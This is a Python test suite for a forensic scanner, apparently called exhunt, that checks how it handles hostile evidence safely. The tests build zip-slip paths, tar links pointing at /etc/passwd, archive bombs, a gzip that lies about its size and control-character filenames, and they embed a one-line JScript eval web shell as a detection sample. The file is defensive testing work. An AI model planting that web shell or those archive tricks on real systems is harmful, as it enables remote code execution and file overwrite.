"""Hostile evidence: every case ends in a warning with its location, the rest analysed, nothing written."""

from __future__ import annotations

import io
import os
import random
import tarfile
import tracemalloc
import zipfile
from dataclasses import replace
from pathlib import Path

import py7zr
import pytest

from exhunt.api import ScanOptions, scan
from exhunt.artifacts.lines import iter_lines
from exhunt.cli import main
from exhunt.events.store import connect
from exhunt.evidence import archive
from exhunt.evidence.base import EvidenceFile
from exhunt.worker import process_file
from tests.evidence import collection as c

SHELL_REL = next(k for k in c.FILES if k.endswith(".aspx"))


def _tree(root: Path, skip: Path) -> set[str]:
    return {str(p) for p in root.rglob("*") if skip not in p.parents and p != skip}


def _scan(tmp_path: Path, *evidence: Path) -> tuple[list[tuple[str, str]], set[str]]:
    case = tmp_path / "case"
    before = _tree(tmp_path, case)
    doc = scan(list(evidence), ScanOptions(out=case, host="h", jobs=1, quiet=True)).document
    assert _tree(tmp_path, case) == before, "something was written outside the case folder"
    con = connect(case / "store")
    warnings = con.execute("SELECT path, message FROM warnings ORDER BY path").fetchall()
    return warnings, {f.check for f in doc.findings}


def _zip(path: Path, members: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return path


@pytest.mark.parametrize("name", ["../../evil.aspx", "/abs/evil.aspx", "C:\\Windows\\evil.aspx",
                                  "\\\\server\\share\\evil.aspx", "a/../../b/evil.aspx"])
def test_zip_slip_names_are_cleaned_and_reported(tmp_path: Path, name: str) -> None:
    ev = _zip(tmp_path / "e.zip", {name: b"<% x %>", SHELL_REL: c.SHELL})
    warnings, checks = _scan(tmp_path, ev)
    slip = [w for w in warnings if "unsafe member name" in w[1]]
    assert len(slip) == 1 and ".." not in slip[0][0] and not slip[0][0].startswith("/")
    assert "webshell.placement" in checks


def test_tar_links_out_of_the_evidence_are_not_followed(tmp_path: Path) -> None:
    ev = tmp_path / "e.tar"
    with tarfile.open(ev, "w") as tf:
        for linktype, name in ((tarfile.SYMTYPE, "sym.log"), (tarfile.LNKTYPE, "hard.log")):
            info = tarfile.TarInfo(name)
            info.type, info.linkname = linktype, "../../../etc/passwd"
            tf.addfile(info)
        info = tarfile.TarInfo(SHELL_REL)
        info.size = len(c.SHELL)
        tf.addfile(info, io.BytesIO(c.SHELL))
    warnings, checks = _scan(tmp_path, ev)
    assert sorted(w[0] for w in warnings if "not followed" in w[1]) == ["hard.log", "sym.log"]
    assert "webshell.placement" in checks


def test_folder_links_are_reported(tmp_path: Path) -> None:
    outside = tmp_path / "outside.aspx"
    outside.write_bytes(c.SHELL)
    ev = c.write_folder(tmp_path / "ev")
    (ev / "link.aspx").symlink_to(outside)
    os.link(outside, ev / "hard.aspx")
    warnings, _ = _scan(tmp_path, ev)
    messages = dict(warnings)
    assert "not followed" in messages["link.aspx"] and "hard link" in messages["hard.aspx"]


def test_archive_bomb_ratio_total_and_nesting(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(archive, "LIMITS", replace(archive.LIMITS, ratio_min_size=1 << 20))
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as zf:
        zf.writestr("deeper.zip", _zip(tmp_path / "d.zip", {"x.log": b"x"}).read_bytes())
        zf.writestr("inner.log", b"data\n")
    ev = _zip(tmp_path / "bomb.zip", {"zeros.log": bytes(4 << 20), "nested.zip": inner.getvalue(),
                                      SHELL_REL: c.SHELL})
    warnings, checks = _scan(tmp_path, ev)
    messages = dict(warnings)
    assert "possible archive bomb" in messages["zeros.log"]
    assert "nested more than 1 level" in messages["nested.zip/deeper.zip"]
    assert "webshell.placement" in checks
    monkeypatch.setattr(archive, "LIMITS", replace(archive.LIMITS, total=100))
    warnings, _ = _scan(tmp_path, ev)
    assert any("more than 100 bytes in total" in m for _, m in warnings)


def test_names_with_bad_bytes_and_controls(tmp_path: Path) -> None:
    ev = tmp_path / "names.tar"
    with tarfile.open(ev, "w", encoding="utf-8", errors="surrogateescape") as tf:
        for name in ("bad\udcff\udcfename.log", "ctl\x1b[31m\u202egpj.aspx", "nul\x07.log"):
            info = tarfile.TarInfo(name)
            info.size = 3
            tf.addfile(info, io.BytesIO(b"abc"))
    folder = tmp_path / "folder"
    folder.mkdir()
    (folder / os.fsdecode(b"raw\xff\xfe.log")).write_bytes(b"x\n")
    warnings, _ = _scan(tmp_path, ev, folder)
    shown = {p for p, m in warnings if "characters" in m}
    expected = {"bad\\xff\\xfename.log", "ctl\\x1b[31m\\u202egpj.aspx", "nul\\x07.log", "raw\\xff\\xfe.log"}
    assert expected <= shown


def test_hundred_megabyte_line_stays_bounded() -> None:
    class Endless(io.RawIOBase):
        left = 100 << 20

        def readable(self) -> bool:
            return True

        def readinto(self, buf: memoryview) -> int:  # type: ignore[override]
            if self.left <= 0:
                return 0
            n = min(len(buf), self.left)
            buf[:n] = b"A" * n
            self.left -= n
            return n

    stream = io.BufferedReader(Endless(), 1 << 16)
    warned: list[str] = []
    tracemalloc.start()
    lines = sum(1 for _ in iter_lines(stream, lambda m, n, o: warned.append(m)))  # type: ignore[arg-type]
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert lines == 1 and "longer than" in warned[0]
    assert peak < 8 << 20, f"peak {peak} bytes for a 100 MB line"


@pytest.mark.parametrize("kind", ["binary-log", "nul-bytes", "truncated-gz", "truncated-7z",
                                  "corrupt-zip-member"])
def test_broken_files_are_warnings_and_the_rest_is_analysed(tmp_path: Path, kind: str) -> None:
    ev = c.write_folder(tmp_path / "ev")
    logs = ev / "C/inetpub/logs/LogFiles/W3SVC1"
    if kind == "binary-log":
        header = c.IIS.encode().split(b"\r\n2021")[0] + b"\r\n"
        (logs / "u_ex210304.log").write_bytes(header + random.Random(1).randbytes(200_000))
    elif kind == "nul-bytes":
        (logs / "u_ex210304.log").write_bytes(c.IIS.encode().replace(b"POST", b"PO\x00ST"))
    elif kind == "truncated-gz":
        c.write_tar(tmp_path / "t.tar.gz", ev)
        (ev / "old.tar.gz").write_bytes((tmp_path / "t.tar.gz").read_bytes()[:-200])
    elif kind == "truncated-7z":
        c.write_7z(tmp_path / "t.7z", ev)
        (ev / "old.7z").write_bytes((tmp_path / "t.7z").read_bytes()[:-40])
    else:
        data = bytearray(_zip(tmp_path / "z.zip", {"a.log": b"line\n" * 5000}).read_bytes())
        data[60:80] = bytes(20)
        (ev / "old.zip").write_bytes(bytes(data))
    warnings, checks = _scan(tmp_path, ev)
    assert warnings, "the broken file must be reported"
    assert {"webshell.placement", "proxylogon.ssrf.anchormailbox"} <= checks


def test_deep_folders_are_cut_with_a_warning(tmp_path: Path) -> None:
    ev = c.write_folder(tmp_path / "ev")
    deep = ev.joinpath(*["d"] * 70)
    deep.mkdir(parents=True)
    (deep / "x.log").write_bytes(b"x")
    warnings, checks = _scan(tmp_path, ev)
    assert any("deeper than 64" in m for _, m in warnings) and "webshell.placement" in checks


@pytest.mark.parametrize("change", ["vanish", "grow"])
def test_file_that_vanishes_or_grows_while_scanned(tmp_path: Path, change: str) -> None:
    path = tmp_path / "u_ex210303.log"
    path.write_bytes(c.IIS.encode())
    st = path.stat()
    file = EvidenceFile("directory", str(tmp_path), path.name, st.st_size, st.st_mtime)
    if change == "vanish":
        path.unlink()
    else:
        with path.open("ab") as f:
            f.write(b"2021-03-03 02:06:00 10.0.0.5 GET /owa/ - 443 - 1.2.3.4 x - 200 0 0 1\r\n")
    result = process_file(file, "h", str(tmp_path / "store"))
    message = connect(tmp_path / "store").execute("SELECT message FROM warnings").fetchone()[0]
    assert ("cannot open" if change == "vanish" else "changed while read") in message
    assert result.rel == path.name


def test_disk_full_is_one_line_and_leaves_a_consistent_case(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                            capsys: pytest.CaptureFixture[str]) -> None:
    import errno

    from exhunt.events import store

    ev = c.write_folder(tmp_path / "ev")
    case = tmp_path / "case"
    assert main(["scan", str(ev), "--out", str(case), "--jobs", "1", "--quiet"]) == 1
    capsys.readouterr()

    def full(self: object, table: object) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(store.TableWriter, "_write", full)
    assert main(["scan", str(ev), "--out", str(case), "--jobs", "1", "--quiet"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "disk full" in err and str(case) in err
    # the parse died: no findings, and no manifest claiming hashes of files the scan did not finish reading
    assert not (case / "findings.json").exists() and not (case / "manifest.json").exists()
    monkeypatch.undo()
    assert main(["scan", str(ev), "--out", str(case), "--jobs", "1", "--quiet"]) == 1
    assert (case / "findings.json").exists()


def test_scan_changes_no_evidence_byte_or_time(tmp_path: Path) -> None:
    ev = c.write_folder(tmp_path / "ev")
    c.write_zip(ev / "logs.zip")
    c.write_7z(tmp_path / "e.7z", ev)
    for p in [*ev.rglob("*"), tmp_path / "e.7z"]:
        os.utime(p, (c.MTIME - 3600, c.MTIME))  # atime older than mtime: relatime would update it

    def snapshot() -> dict[str, tuple[int, int, int, bytes]]:
        return {str(p): (p.stat().st_size, p.stat().st_mtime_ns, p.stat().st_atime_ns, p.read_bytes())
                for p in [*ev.rglob("*"), tmp_path / "e.7z"] if p.is_file()}

    before = snapshot()  # read_bytes itself may touch atime: take the stat first, compare with a re-stat
    before = {k: (v[0], v[1], os.stat(k).st_atime_ns, v[3]) for k, v in before.items()}
    scan([ev, tmp_path / "e.7z"], ScanOptions(out=tmp_path / "case", host="h", jobs=1, quiet=True))
    after = {k: (os.stat(k).st_size, os.stat(k).st_mtime_ns, os.stat(k).st_atime_ns, v[3])
             for k, v in before.items()}
    assert after == before
    assert {k: Path(k).read_bytes() for k in before} == {k: v[3] for k, v in before.items()}


def test_py7zr_member_read_never_touches_the_disk(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    ev = c.write_7z(tmp_path / "e.7z", c.write_folder(tmp_path / "ev"))
    monkeypatch.chdir(tmp_path / "ev")
    before = _tree(tmp_path, tmp_path / "none")
    from exhunt.evidence.archive_formats import SevenZipReader

    with ev.open("rb") as f:
        reader = SevenZipReader(f)
        names = [m.locator for m in reader.members() if m.kind == "file"]
        assert reader.open(names[-1]).read()
    assert _tree(tmp_path, tmp_path / "none") == before
    assert isinstance(py7zr.__version__, str)


def test_capture_for_yara_stops_at_the_limit_whatever_the_listed_size() -> None:
    """A member's listed size is a claim: past the YARA limit the captured bytes are dropped."""
    from exhunt.artifacts.files import HashingRaw

    raw = HashingRaw(io.BytesIO(bytes(300_000)), capture=True, capture_limit=100_000)
    while raw.read(65_536):
        pass
    assert raw.chunks is None and raw.bytes_read == 300_000


def test_small_gz_that_lies_about_its_size_is_hashed_not_held(tmp_path: Path) -> None:
    """A .gz whose size trailer says 100 bytes but expands to 4 MiB: hashed whole, not kept for YARA
    (a 785-byte bz2 expanding to 1 GiB used to be held in memory until the scan died)."""
    import gzip
    import struct

    data = bytearray(gzip.compress(bytes(4 << 20)))
    struct.pack_into("<I", data, len(data) - 4, 100)  # ISIZE trailer: the lie
    ev = tmp_path / "ev"
    ev.mkdir()
    (ev / "x.log.gz").write_bytes(bytes(data))
    scan([ev], ScanOptions(out=tmp_path / "case", host="h", jobs=1, quiet=True, html_report=False,
                           yara_max_size=1 << 20))
    con = connect(tmp_path / "case" / "store")
    messages = [m for (m,) in con.execute("SELECT message FROM warnings").fetchall()]
    assert any("larger than the YARA size limit" in m for m in messages), messages
    assert con.execute("SELECT max(size) FROM files").fetchone()[0] == 4 << 20


def test_a_file_gone_before_it_is_hashed_is_recorded_not_fatal(tmp_path: Path,
                                                              monkeypatch: pytest.MonkeyPatch) -> None:
    from exhunt import api
    from exhunt.evidence import manifest

    ev = c.write_folder(tmp_path / "ev")
    victim = next(p for p in sorted(ev.rglob("*")) if p.is_file())
    real_plan = api.plan

    def plan_then_vanish(*args: object, **kwargs: object) -> object:
        work = real_plan(*args, **kwargs)  # type: ignore[arg-type]
        victim.unlink()  # listed, then gone before the custody hash
        return work

    monkeypatch.setattr(api, "plan", plan_then_vanish)
    result = scan([ev], ScanOptions(out=tmp_path / "case", host="h", jobs=1, quiet=True, html_report=False))
    assert result.document.hosts
    record = next(r for r in manifest.load(tmp_path / "case") if r.rel.endswith(victim.name))
    assert record.sha256.startswith("unreadable")


def test_a_gzipped_member_of_an_archive_keeps_its_name(tmp_path: Path) -> None:
    """x.aspx.gz inside a zip is one page named x.aspx (it was '<zip index>.out', so the web-shell
    checks that go by path missed it)."""
    import gzip

    shell = b'<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>'
    archive_path = tmp_path / "collection.zip"
    with zipfile.ZipFile(archive_path, "w") as z:
        z.writestr("C/inetpub/wwwroot/aspnet_client/system_web/x.aspx.gz", gzip.compress(shell))
    result = scan([archive_path], ScanOptions(out=tmp_path / "case", host="h", jobs=1, quiet=True, html_report=False))
    paths = {r[0] for r in connect(tmp_path / "case" / "store").execute("SELECT path FROM files").fetchall()}
    assert any(p.endswith("system_web/x.aspx.gz/x.aspx") for p in paths), paths
    assert any(f.check == "webshell.placement" for f in result.document.findings)


def test_two_7z_members_of_one_name_are_each_read(tmp_path: Path) -> None:
    shell = b'<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>'
    archive_path = tmp_path / "dup.7z"
    with py7zr.SevenZipFile(archive_path, "w") as z:
        z.writestr(shell, "C/inetpub/wwwroot/aspnet_client/x.aspx")
        z.writestr(b"benign page", "C/inetpub/wwwroot/aspnet_client/x.aspx")
    scan([archive_path], ScanOptions(out=tmp_path / "case", host="h", jobs=1, quiet=True, html_report=False))
    rows = connect(tmp_path / "case" / "store").execute("SELECT path, size FROM files ORDER BY path").fetchall()
    assert [size for _, size in rows] == [len(shell), len(b"benign page")], rows
